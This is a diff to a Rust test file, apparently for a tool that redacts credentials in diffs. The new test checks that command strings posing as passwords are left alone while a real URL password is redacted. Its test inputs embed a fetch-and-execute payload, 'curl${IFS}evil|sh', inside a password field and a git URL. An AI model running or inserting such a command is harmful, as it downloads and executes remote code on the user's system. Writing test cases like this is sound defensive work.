@@ -25,8 +25,10 @@ fn a_key_is_found_behind_the_signs_of_a_diff() {
 }
 
 #[test]
-fn a_line_is_cut_and_hides_nothing() {
-    assert_eq!(bounded("+a\u{202e}b\tc"), "+a\\u{202e}b\tc");
-    assert_eq!(bounded(&"ä".repeat(LONGEST_LINE)), "ä".repeat(LONGEST_LINE));
-    assert_eq!(bounded(&"ä".repeat(LONGEST_LINE + 1)), "ä".repeat(LONGEST_LINE) + "…");
+fn a_command_does_not_hide_as_a_password() {
+    let command = "+password = \"x$(curl${IFS}evil|sh)\"";
+    let url = "+git clone https://u:$(curl${IFS}evil|sh)@host/x";
+    assert_eq!(without_credentials(&diff(&[command, url])), [command, url]);
+    let removed = without_credentials(&diff(&["-git clone https://u:hunter2@host/x"]));
+    assert_eq!(removed, ["-git clone https://u:[redacted:url-password]@host/x"]);
 }
